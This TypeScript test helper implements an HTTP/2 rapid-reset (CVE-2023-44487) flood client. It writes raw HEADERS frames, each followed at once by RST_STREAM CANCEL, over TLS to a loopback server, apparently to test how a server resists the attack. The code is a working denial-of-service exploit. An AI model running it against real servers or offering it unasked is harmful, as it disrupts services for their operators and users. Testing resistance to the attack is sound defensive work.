import { connect } from 'node:tls';

/**
 * A rapid-reset client (CVE-2023-44487), run as its own process so its loop does not
 * slow the test's well-behaved client. Raw frames over TLS with ALPN h2: node's own
 * client drops a request's HEADERS when the stream is reset before they went out, so it
 * cannot send the attack. Each stream is a HEADERS (END_STREAM) followed at once by
 * RST_STREAM CANCEL, in batches, until the server sends GOAWAY or closes the connection,
 * or `maxStreams` were sent; then it connects again, until `durationMs` has passed. A
 * PING ends each batch and its ACK starts the next: the count is of streams the server
 * had read when it stopped the client, not of bytes still queued on the way.
 * Stdout: `{"started":true}` once the first connection is up or was refused, then one JSON
 * line per connection: `{streams, goaway, closed, handshaken, ms}` (`goaway`: its error
 * code, null when none came; `handshaken`: the TLS handshake completed), and last
 * `{done: true, cpuMs}`: the CPU time this process spent (what it took of the machine).
 *
 * argv[2]: JSON `{port, servername, ca, path, durationMs, maxStreams, localAddress}`:
 * the client connects from `localAddress` (a loopback address of its own, as an attacker
 * has an address of its own).
 */

interface Plan {
  port: number;
  servername: string;
  ca: string;
  path: string;
  durationMs: number;
  maxStreams: number;
  localAddress: string;
}

interface Round {
  streams: number;
  goaway: number | null;
  closed: boolean;
  handshaken: boolean;
  ms: number;
}

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const PING = 0x6;
const GOAWAY = 0x7;
const CANCEL = 0x8;
const BATCH = 50;

const plan = JSON.parse(process.argv[2]!) as Plan;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** An HPACK literal without indexing, its name from the static table (index under 15, value under 127 bytes). */
const literal = (nameIndex: number, value: string): Buffer => Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value, 'latin1')]);

// :method GET (2), :scheme https (7) indexed; :authority (1) and :path (4) literal.
const BLOCK = Buffer.concat([Buffer.from([0x82, 0x87]), literal(1, plan.servername), literal(4, plan.path)]);
const CANCEL_CODE = Buffer.from([0, 0, 0, CANCEL]);

function round(onUp: () => void): Promise<Round> {
  const t0 = performance.now();
  const r: Round = { streams: 0, goaway: null, closed: false, handshaken: false, ms: 0 };
  const socket = connect({ port: plan.port, host: '127.0.0.1', localAddress: plan.localAddress, servername: plan.servername, ca: plan.ca, ALPNProtocols: ['h2'] });
  let inbox = Buffer.alloc(0);
  let batch = (): void => {};
  socket.on('data', (d: Buffer) => {
    inbox = Buffer.concat([inbox, d]);
    while (inbox.length >= 9) {
      const len = inbox.readUIntBE(0, 3);
      if (inbox.length < 9 + len) break;
      const type = inbox[3]!;
      const flags = inbox[4]!;
      if (type === GOAWAY) r.goaway = inbox.readUInt32BE(9 + 4);
      if (type === PING && (flags & 0x1) === 1) setImmediate(batch);
      if (type === SETTINGS && (flags & 0x1) === 0) socket.write(frame(SETTINGS, 0x1, 0, Buffer.alloc(0)));
      inbox = inbox.subarray(9 + len);
    }
  });
  socket.on('error', () => {});
  return new Promise((resolve) => {
    let finished = false;
    const done = (): void => {
      if (finished) return;
      finished = true;
      r.ms = Math.round(performance.now() - t0);
      socket.destroy();
      resolve(r);
    };
    socket.once('close', () => {
      r.closed = true;
      onUp();
      done();
    });
    let nextId = 1;
    batch = (): void => {
      if (r.goaway !== null || r.closed || r.streams >= plan.maxStreams) return done();
      const frames: Buffer[] = [];
      for (let i = 0; i < BATCH && r.streams < plan.maxStreams; i++, r.streams++, nextId += 2) {
        frames.push(frame(HEADERS, 0x5, nextId, BLOCK), frame(RST_STREAM, 0, nextId, CANCEL_CODE));
      }
      frames.push(frame(PING, 0, 0, Buffer.alloc(8)));
      socket.write(Buffer.concat(frames));
    };
    socket.once('secureConnect', () => {
      r.handshaken = true;
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
      onUp();
      batch();
    });
  });
}

let announced = false;
const end = performance.now() + plan.durationMs;
do {
  const r = await round(() => {
    // The test measures its client once the flood is under way.
    if (!announced) process.stdout.write(JSON.stringify({ started: true }) + '\n');
    announced = true;
  });
  process.stdout.write(JSON.stringify(r) + '\n');
  if (r.streams >= plan.maxStreams) break;
} while (performance.now() < end);
const cpu = process.cpuUsage();
process.stdout.write(JSON.stringify({ done: true, cpuMs: Math.round((cpu.user + cpu.system) / 1000) }) + '\n');
